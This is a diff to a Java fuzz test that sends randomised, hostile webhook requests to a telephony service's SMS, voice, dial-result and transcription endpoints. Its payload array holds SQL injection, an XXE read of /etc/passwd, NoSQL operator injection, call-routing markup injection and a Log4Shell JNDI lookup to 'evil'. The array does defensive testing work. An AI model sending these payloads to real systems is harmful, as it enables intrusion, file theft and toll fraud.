@@ -68,7 +68,8 @@ class HostileInputTest {
     static final String KEY = "PSK_test_signing_key";
     static final String CLERK_SECRET = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
     static final String PUBLIC = "https://phone.galaxyco.test/api/webhooks/signalwire";
-    static final List<String> ENDPOINTS = List.of("clerk", "sms", "voice", "voice/recording", "status");
+    static final List<String> ENDPOINTS = List.of("clerk", "sms", "voice", "voice/recording",
+            "voice/dial-result", "voice/transcription", "status");
     static final int PER_ENDPOINT = Integer.getInteger("hostile.requests", 5_000) / ENDPOINTS.size();
     static final String[] NASTY = {"'; DROP TABLE message; --", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
         "{\"$ne\": null}", "</Response><Dial>+19005550100</Dial>", "${jndi:ldap://evil/x}", "\u0000\u0001\u0002", "😀🔥𝕏",
@@ -238,11 +239,15 @@ class HostileInputTest {
                 params.add(Map.entry("NumMedia", random.nextInt(5) == 0 ? pick(random, NASTY) : String.valueOf(random.nextInt(3))));
                 params.add(Map.entry("MediaUrl0", "https://m/" + tag));
             }
-            case "voice", "voice/recording" -> {
+            case "voice", "voice/recording", "voice/dial-result", "voice/transcription" -> {
                 params.add(Map.entry("CallSid", random.nextInt(10) == 0 ? pick(random, NASTY) : "CA" + tag));
                 params.add(Map.entry("CallStatus", pick(random, "ringing", "in-progress", pick(random, NASTY))));
                 params.add(Map.entry("RecordingUrl", "https://rec/" + tag));
                 params.add(Map.entry("RecordingDuration", random.nextBoolean() ? "12" : pick(random, NASTY)));
+                params.add(Map.entry("DialCallStatus", pick(random, "no-answer", "completed", pick(random, NASTY))));
+                params.add(Map.entry("DialCallDuration", random.nextBoolean() ? "30" : pick(random, NASTY)));
+                params.add(Map.entry("TranscriptionText", tag + " " + pick(random, NASTY)));
+                params.add(Map.entry("TranscriptionStatus", pick(random, "completed", "failed", pick(random, NASTY))));
             }
             default -> {
                 if (random.nextBoolean()) {
